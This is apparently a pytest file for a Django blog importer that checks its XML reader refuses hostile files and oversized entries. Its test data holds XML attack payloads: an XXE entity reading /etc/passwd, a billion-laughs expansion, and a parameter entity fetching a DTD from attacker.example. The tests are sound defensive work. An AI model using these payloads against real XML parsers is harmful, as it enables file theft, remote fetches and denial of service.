"""The XML reader under hostile files (issue 9): a DOCTYPE is refused wherever the prolog puts
it, in every importer's format, and one oversized entry is refused with its name."""

import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management.base import CommandError

from transfer import xmlstream
from transfer.tests.conftest import CLASSIC, REAL_EXPORTS, TAKEOUT, WXR, run, snapshot

pytestmark = pytest.mark.django_db

FORMATS = {
    "classic": (CLASSIC, "import_blogger", "<feed "),
    "takeout": (TAKEOUT, "import_blogger", "<feed "),
    "wxr": (WXR, "import_wordpress", "<rss "),
}
# more than the 64 KiB the prolog check used to read
LONG_PROLOG = "<!-- " + "padding " * 10_000 + "-->\n" + "<?pad x?>\n" * 100
XXE = '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n'
)
PARAMETER = '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>\n'
EXTERNAL_DTD = '<!DOCTYPE r SYSTEM "file:///etc/passwd">\n'


def _with_before_root(fmt, text):
    path, command, root = FORMATS[fmt]
    original = path.read_text(encoding="utf-8")
    return original.replace(root, text + root, 1), command


@pytest.mark.parametrize("fmt", list(FORMATS))
@pytest.mark.parametrize("prolog", ["", LONG_PROLOG], ids=["short prolog", "long prolog"])
@pytest.mark.parametrize(
    "doctype", [XXE, LAUGHS, PARAMETER, EXTERNAL_DTD], ids=["xxe", "laughs", "param", "dtd"]
)
def test_a_doctype_is_refused_however_long_the_prolog(fmt, prolog, doctype, write):
    text, command = _with_before_root(fmt, prolog + doctype)
    if doctype is XXE:
        text = text.replace("</title>", "&xxe;</title>", 1)
    elif doctype is LAUGHS:
        text = text.replace("</title>", "&d;</title>", 1)
    before = snapshot()
    with pytest.raises(CommandError, match="the file has a DOCTYPE declaration"):
        run(command, write(text))
    assert snapshot() == before


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_an_entity_without_a_doctype_is_refused(fmt, write):
    path, command, _ = FORMATS[fmt]
    text = path.read_text(encoding="utf-8").replace("</title>", "&xxe;</title>", 1)
    with pytest.raises(CommandError, match="undefined entity"):
        run(command, write(text))


def test_a_long_prolog_without_a_doctype_still_imports(write):
    text, command = _with_before_root("classic", LONG_PROLOG)
    run(command, write(text))
    assert snapshot()["posts.Post"]


# the limit is counted per chunk read, so to within a chunk
BIG = "x" * (xmlstream.MAX_ENTRY_BYTES + 2 * xmlstream.CHUNK)


def test_an_oversized_post_is_refused_naming_it(write):
    text = CLASSIC.read_text(encoding="utf-8").replace("&lt;p&gt;Sleep.&lt;/p&gt;", BIG)
    before = snapshot()
    with pytest.raises(CommandError) as info:
        run("import_blogger", write(text))
    message = str(info.value)
    assert "an entry holds more than 10 MB of XML" in message and message.endswith("(entry 1004)")
    assert "\n" not in message
    assert snapshot() == before


def test_an_oversized_wordpress_item_is_refused_naming_it(write):
    original = WXR.read_text(encoding="utf-8")
    text = original.replace("<content:encoded><![CDATA[", "<content:encoded><![CDATA[" + BIG, 1)
    with pytest.raises(
        CommandError, match=r"more than 10 MB .*\(entry https://nightshift\.example\.org/\?p=42\)"
    ):
        run("import_wordpress", write(text))


def test_an_entry_just_under_the_limit_imports(write):
    body = "y" * (xmlstream.MAX_ENTRY_BYTES - 2 * xmlstream.CHUNK)
    run("import_blogger", write(CLASSIC.read_text(encoding="utf-8").replace("Sleep.", body)))
    assert body in "".join(snapshot()["posts.Post"])


def test_oversized_entry_from_the_command_line_one_line_exit_1_nothing_saved(tmp_path):
    bad = tmp_path / "big.xml"
    bad.write_text(CLASSIC.read_text(encoding="utf-8").replace("Sleep.", BIG), encoding="utf-8")
    db = tmp_path / "cli.sqlite3"
    env = {"DATABASE_URL": f"sqlite:///{db}", "PATH": "/usr/bin:/bin"}
    manage = Path(__file__).resolve().parents[2] / "manage.py"
    subprocess.run([sys.executable, manage, "migrate", "-v0"], env=env, check=True)
    result = subprocess.run(
        [sys.executable, manage, "import_blogger", bad], env=env, capture_output=True, text=True
    )
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: an entry holds more than 10 MB of XML")
    assert lines[0].endswith("(entry 1004)")
    with sqlite3.connect(db) as connection:
        assert connection.execute("select count(*) from posts_post").fetchone() == (0,)


def _entries(read, path, *args):
    """What a stream yields for ``path``: each event, an entry as its XML (taken at once: the
    stream empties it after)."""
    import xml.etree.ElementTree as ET

    seen = []
    with open(path, "rb") as fileobj:
        try:
            for event, elem in read(fileobj, path.stat().st_size, *args):
                seen.append((event, ET.tostring(elem) if event == "entry" else elem))
        except xmlstream.TransferError as exc:
            seen.append(("error", str(exc)))
    return [(event, getattr(elem, "tag", elem)) for event, elem in seen]


@pytest.mark.parametrize(
    "path",
    [CLASSIC, TAKEOUT, *sorted(REAL_EXPORTS.glob("blogger-*.xml"))],
    ids=lambda path: path.name,
)
def test_the_root_children_stream_yields_what_the_element_stream_does(path):
    """import_blogger's faster stream: the same entries, whole, in the same order; the root and
    every namespace declaration before the first entry (a reader decides on them); the same
    error for a file that is not well-formed (blogger-pelican.xml), after the same entries (but
    perhaps the last: the file is refused all the same)."""
    entry = "{http://www.w3.org/2005/Atom}entry"
    old = _entries(xmlstream.iter_elements, path, {entry})
    new = _entries(xmlstream.iter_root_children, path, entry)
    entries = [e for e in new if e[0] == "entry"]
    old_entries = [e for e in old if e[0] == "entry"]
    if old[-1][0] == "error":  # (the entry that ends just before the error may not come)
        assert len(entries) >= len(old_entries) - 1
        old_entries = old_entries[: len(entries)]
    assert entries == old_entries
    assert new[0] == old[0] == ("root", "{http://www.w3.org/2005/Atom}feed")
    assert {e for e in new if e[0] == "ns"} == {e for e in old if e[0] == "ns"}
    assert [e for e in new if e[0] == "error"] == [e for e in old if e[0] == "error"]
    first = next(i for i, e in enumerate(old) if e[0] == "entry")
    assert set(old[:first]) <= set(new[: new.index(old[first])])


def test_the_root_children_stream_is_the_same_where_the_parser_reports_every_start(monkeypatch):
    """Without the private call that silences the parser (a future Python may drop it), every
    element's start reaches the stream, which skips them: the same entries."""
    entry = "{http://www.w3.org/2005/Atom}entry"
    fast = _entries(xmlstream.iter_root_children, TAKEOUT, entry)
    monkeypatch.setattr(xmlstream.ET, "XMLPullParser", _PullParserWithoutSetevents)
    assert _entries(xmlstream.iter_root_children, TAKEOUT, entry) == fast


class _PullParserWithoutSetevents:
    """An ``XMLPullParser`` whose inner parser has no ``_setevents``."""

    real = xmlstream.ET.XMLPullParser

    def __init__(self, events):
        self._pull = self.real(events=events)
        self._parser = object()

    def __getattr__(self, name):
        return getattr(self._pull, name)
